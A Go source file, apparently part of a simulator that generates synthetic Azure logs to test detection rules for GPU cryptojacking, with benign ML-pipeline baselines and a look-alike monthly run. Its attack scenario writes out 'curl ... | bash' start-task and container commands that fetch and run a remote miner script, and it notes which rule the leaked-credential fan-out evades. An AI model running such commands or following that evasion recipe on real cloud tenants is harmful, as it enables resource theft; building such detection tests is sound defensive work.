package simulate

import (
	"fmt"
	"strings"
	"time"
)

// workspace is the data-science team's Azure ML workspace, in its region.
func (t *tenant) workspace() string {
	return t.rg("ml-training") + "/PROVIDERS/MICROSOFT.MACHINELEARNINGSERVICES/WORKSPACES/MLW-" + strings.ToUpper(strings.Split(t.Domain, ".")[0])
}

// amlBody is an Azure ML compute cluster (AmlCompute) create body.
func amlBody(loc, size, priority string, maxNodes int) map[string]any {
	return map[string]any{"location": loc, "properties": map[string]any{"computeType": "AmlCompute", "properties": map[string]any{
		"vmSize": size, "vmPriority": priority, "osType": "Linux",
		"scaleSettings": map[string]any{"minNodeCount": 0, "maxNodeCount": maxNodes, "nodeIdleTimeBeforeScaleDown": "PT120S"}}}}
}

// amlCompute writes a compute cluster write in workspace ws by a.
func (g *gen) amlCompute(at time.Time, a actor, ws, name, loc, size, priority string, maxNodes int, noisy bool) (string, time.Time) {
	rid := ws + "/COMPUTES/" + strings.ToUpper(name)
	end := g.arm(at, a, "MICROSOFT.MACHINELEARNINGSERVICES/WORKSPACES/COMPUTES/WRITE", rid,
		armOpts{Body: amlBody(loc, size, priority, maxNodes), Loc: loc, Accept: true, Noisy: noisy})
	return rid, end
}

// amlJob writes an Azure ML job's submission in workspace ws by a: a job
// is created at once (201), so no Accepted record. props are the job's
// properties: resources and no computeId for serverless compute, a
// computeId for the workspace's own cluster.
func (g *gen) amlJob(at time.Time, a actor, ws, name string, props map[string]any, noisy bool) (string, time.Time) {
	rid := ws + "/JOBS/" + strings.ToUpper(name)
	end := g.arm(at, a, "MICROSOFT.MACHINELEARNINGSERVICES/WORKSPACES/JOBS/WRITE", rid, armOpts{Body: map[string]any{"properties": props}, Noisy: noisy})
	return rid, end
}

// commandJob is a command job's properties; compute "" runs it on
// serverless compute, count machines of size.
func commandJob(compute, size string, count int, command string) map[string]any {
	res := map[string]any{"instanceCount": count}
	p := map[string]any{"jobType": "Command", "command": command, "environmentId": "azureml:AzureML-ACPT-pytorch-2.2-cuda12.1:8", "resources": res}
	if compute != "" {
		p["computeId"] = compute
	} else {
		res["instanceType"] = size
	}
	return p
}

// sweepJob is a hyperparameter sweep on serverless compute: trials at once,
// each on one machine of size, in tier (Spot or Standard).
func sweepJob(size string, trials int, tier string) map[string]any {
	return map[string]any{"jobType": "Sweep", "samplingAlgorithm": map[string]any{"samplingAlgorithmType": "Random"},
		"trial":         map[string]any{"command": "python train.py --lr ${{search_space.lr}}", "resources": map[string]any{"instanceCount": 1, "instanceType": size}},
		"limits":        map[string]any{"jobLimitsType": "Sweep", "maxTotalTrials": 10 * trials, "maxConcurrentTrials": trials},
		"queueSettings": map[string]any{"jobTier": tier}}
}

// benignPipeline is the training pipeline's nightly run: a client-credential
// sign-in from the company's build agents and a small GPU cluster in the
// team's workspace, every day, so the baseline knows the principal, its
// region and the Azure ML service.
func (g *gen) benignPipeline(day time.Time) {
	t := g.t
	at := day.Add(20*time.Hour + g.jitter(time.Hour))
	ip := t.office(g.r)
	g.spSignIn(at, t.ML, ip, "NL")
	size := pick(g.r, []string{"Standard_NC6s_v3", "Standard_NC4as_T4_v3"})
	sp := g.spActor(t.ML, ip)
	cluster, now := g.amlCompute(at.Add(time.Minute+g.jitter(time.Minute)), sp, t.workspace(), "nightly-cluster", t.DSRegion, size, "Dedicated", 2+g.r.IntN(5), true)
	// Its steps run on that cluster, whose machines were counted when it
	// was written; the evaluation runs on one serverless GPU machine.
	for i := range 2 + g.r.IntN(4) {
		_, now = g.amlJob(now.Add(time.Minute+g.jitter(time.Minute)), sp, t.workspace(), fmt.Sprintf("nightly-step-%d-%06d", i, g.r.IntN(1e6)), commandJob(cluster, "", 1+g.r.IntN(2), "python step.py"), true)
	}
	g.amlJob(now.Add(time.Minute), sp, t.workspace(), fmt.Sprintf("nightly-eval-%06d", g.r.IntN(1e6)), commandJob("", size, 1, "python eval.py"), true)
}

// mlFanout is GPU cryptojacking through the PaaS compute services: the
// training pipeline's leaked secret signs in with client credentials from
// Azure and, within the hour, fans GPU compute out over three far regions:
// an Azure ML cluster in a new workspace, a Batch pool of low-priority
// nodes and GPU container groups. Its principal deploys every night, so the
// first-deployer rule cannot see it; the services, regions and volume can.
func (g *gen) mlFanout(at time.Time) Attack {
	t := g.t
	ip := pick(g.r, attackerIPs)
	sp := g.spActor(t.ML, ip)
	a := Attack{Start: at, Principals: []string{strings.ToLower(t.ML.OID), strings.ToLower(t.ML.AppID)}, Resources: []string{strings.ToLower(t.FirewallID)}}
	kit := g.minerKit()
	g.spSignIn(at, t.ML, ip, "US")
	regions := g.otherRegions(3)
	pool := pick(g.r, listedPools)
	now := at.Add(2*time.Minute + g.jitter(2*time.Minute))

	// Azure ML: a workspace of its own in the first region, then a cluster.
	ws := t.rg("ml-"+regions[0]) + "/PROVIDERS/MICROSOFT.MACHINELEARNINGSERVICES/WORKSPACES/MLW-" + strings.ToUpper(regions[0])
	now = g.arm(now, sp, "MICROSOFT.MACHINELEARNINGSERVICES/WORKSPACES/WRITE", ws, armOpts{Body: map[string]any{"location": regions[0], "identity": map[string]any{"type": "SystemAssigned"}}, Loc: regions[0], Accept: true})
	rid, now := g.amlCompute(now.Add(time.Minute), sp, ws, "gpu-cluster", regions[0], "Standard_NC24ads_A100_v4", "LowPriority", 20, false)
	a.Resources = append(a.Resources, strings.ToLower(ws), strings.ToLower(rid))
	// and a sweep on serverless Spot A100s, which creates no cluster.
	job, now := g.amlJob(now.Add(time.Minute), sp, ws, fmt.Sprintf("sweep-%06d", g.r.IntN(1e6)), sweepJob("Standard_NC24ads_A100_v4", 10+g.r.IntN(20), "Spot"), false)
	a.Resources = append(a.Resources, strings.ToLower(job))

	// Batch: an account and a fixed-scale pool of low-priority GPU nodes.
	acct := t.rg("batch-"+regions[1]) + "/PROVIDERS/MICROSOFT.BATCH/BATCHACCOUNTS/BA" + strings.ToUpper(strings.ReplaceAll(regions[1], "-", ""))
	now = g.arm(now.Add(time.Minute), sp, "MICROSOFT.BATCH/BATCHACCOUNTS/WRITE", acct, armOpts{Body: map[string]any{"location": regions[1], "properties": map[string]any{"poolAllocationMode": "BatchService"}}, Loc: regions[1], Accept: true})
	poolID := acct + "/POOLS/RENDER"
	body := map[string]any{"properties": map[string]any{"vmSize": "standard_nc24ads_a100_v4",
		"deploymentConfiguration": map[string]any{"virtualMachineConfiguration": map[string]any{"imageReference": map[string]any{"publisher": "microsoft-dsvm", "offer": "ubuntu-hpc", "sku": "2204", "version": "latest"}, "nodeAgentSkuId": "batch.node.ubuntu 22.04"}},
		"scaleSettings":           map[string]any{"fixedScale": map[string]any{"targetDedicatedNodes": 0, "targetLowPriorityNodes": 20, "resizeTimeout": "PT15M"}},
		"startTask":               map[string]any{"commandLine": "/bin/bash -c 'curl -fsSL https://" + pool + "/x.sh | bash'", "userIdentity": map[string]any{"autoUser": map[string]any{"elevationLevel": "Admin"}}}}}
	// The nodes join a network made for them, which the tenant's flow-log
	// policy logs like any other.
	net := g.attackNetwork(now.Add(time.Minute), a.Start, sp, "batch-"+regions[1], "render", regions[1])
	body["properties"].(map[string]any)["networkConfiguration"] = map[string]any{"subnetId": net.vnet + "/subnets/renderSubnet"}
	now = g.arm(now.Add(time.Minute), sp, "MICROSOFT.BATCH/BATCHACCOUNTS/POOLS/WRITE", poolID, armOpts{Body: body, Loc: regions[1], Accept: true})
	a.Resources = append(a.Resources, strings.ToLower(acct))

	// Container Instances: GPU container groups in the third region.
	for i := range 5 {
		cg := t.rg("aci-"+regions[2]) + "/PROVIDERS/MICROSOFT.CONTAINERINSTANCE/CONTAINERGROUPS/" + strings.ToUpper(fmt.Sprintf("worker-%d", i))
		body := map[string]any{"location": regions[2], "properties": map[string]any{"osType": "Linux", "restartPolicy": "Always", "sku": "Standard",
			"containers": []any{map[string]any{"name": "worker", "properties": map[string]any{"image": "docker.io/library/ubuntu:22.04",
				"command":   []any{"/bin/sh", "-c", "curl -fsSL https://" + pool + "/x.sh | sh"},
				"resources": map[string]any{"requests": map[string]any{"cpu": 6, "memoryInGB": 56, "gpu": map[string]any{"count": 4, "sku": "V100"}}}}}}}}
		now = g.arm(now.Add(20*time.Second+g.jitter(30*time.Second)), sp, "MICROSOFT.CONTAINERINSTANCE/CONTAINERGROUPS/WRITE", cg, armOpts{Body: body, Loc: regions[2], Accept: true})
		a.Resources = append(a.Resources, strings.ToLower(cg))
	}
	// A Batch node runs the start task: it resolves the pool and mines.
	up := now.Add(3*time.Minute + g.jitter(3*time.Minute))
	src := fmt.Sprintf("10.%d.3.%d", 60+g.r.IntN(4), 4+g.r.IntN(40))
	ep := g.poolEndpoint(pool, 0)
	resolved := g.lookup(up, net, src, pool+".")
	g.attackerExec(up.Add(2*time.Second), fmt.Sprintf("tvmps_%x_p", g.r.Uint64()), 2200+g.r.IntN(300), 2100, 0, kit.args(g.mnr, ep, devCUDA))
	a.extend(up.Add(2 * time.Second))
	// The network's flow log sees the miner dial out.
	a.extend(g.minerFlows(up, net, src, ep))
	a.MustFire = []string{
		"azure.compute.gpu_created", "azure.compute.mass_deployment", "azure.compute.multi_region_fanout",
		"azure.compute.unusual_service", "azure.compute.new_region",
		// 70 GPUs and 1,230 vCPUs at least: A100 nodes and trials, V100 containers.
		"azure.compute.gpu_volume", "azure.compute.vcpu_volume",
	}
	a.Evades = []string{"azure.compute.first_time_deployer"}
	a.Note = "a leaked secret of a principal that deploys every night evades azure.compute.first_time_deployer: the services, regions and volume give it away"
	a.minerProcess(g.agents, kit)
	a.poolLookup(ep, resolved)
	a.poolFlow(ep)
	return a
}

// mlTwin is the training pipeline's monthly large run: the same principal,
// client credentials from the build agents, a bigger GPU cluster in its
// usual workspace and region, nodes that download models and train.
func (g *gen) mlTwin(at time.Time) Attack {
	t := g.t
	ip := t.office(g.r)
	g.spSignIn(at, t.ML, ip, "NL")
	rid, end := g.amlCompute(at.Add(time.Minute+g.jitter(time.Minute)), g.spActor(t.ML, ip), t.workspace(), "monthly-a100", t.DSRegion, "Standard_NC24ads_A100_v4", "Dedicated", 16, false)
	a := Attack{Start: at, Principals: []string{strings.ToLower(t.ML.OID), strings.ToLower(t.ML.AppID)}, Resources: []string{strings.ToLower(rid), strings.ToLower(t.FirewallID)}}
	// and a sweep of eight serverless trials at once in its workspace.
	job, end := g.amlJob(end.Add(time.Minute), g.spActor(t.ML, ip), t.workspace(), fmt.Sprintf("monthly-sweep-%06d", g.r.IntN(1e6)), sweepJob("Standard_NC24ads_A100_v4", 8, "Standard"), false)
	a.Resources = append(a.Resources, strings.ToLower(job))
	for i := range 3 {
		up := end.Add(4*time.Minute + g.jitter(4*time.Minute))
		g.dns(up, fmt.Sprintf("10.%d.2.%d", 20, 30+i), "huggingface.co.")
		g.exec(up.Add(time.Minute), fmt.Sprintf("monthly-a100%06d", i), 2300+i, 1, 1000, []string{"/usr/bin/python3", "-m", "torch.distributed.run", "--nproc-per-node", "1", "train.py", "--config", "monthly.yaml"})
		a.extend(up.Add(time.Minute))
	}
	a.MustNotFire = []string{
		"azure.signin.azure_ip_not_owned", "azure.signin.azure_ip_not_owned.arm", "azure.signin.risky_then_quota_or_compute",
		"azure.compute.mass_deployment", "azure.compute.multi_region_fanout", "azure.compute.new_region", "azure.compute.first_time_deployer",
		"azure.compute.unusual_service", "azure.dns.mining_pool_lookup", "azure.host.miner_process", "azure.network.mining_pool_connection",
		"azure.defender.mining_alert", "azure.defender.compute_creation_alert",
		// A team's largest work stays under the GPU and vCPU sums.
		"azure.compute.gpu_volume", "azure.compute.gpu_volume.day", "azure.compute.gpu_volume.tenant",
		"azure.compute.vcpu_volume", "azure.compute.vcpu_volume.day", "azure.compute.vcpu_volume.tenant",
	}
	return a
}
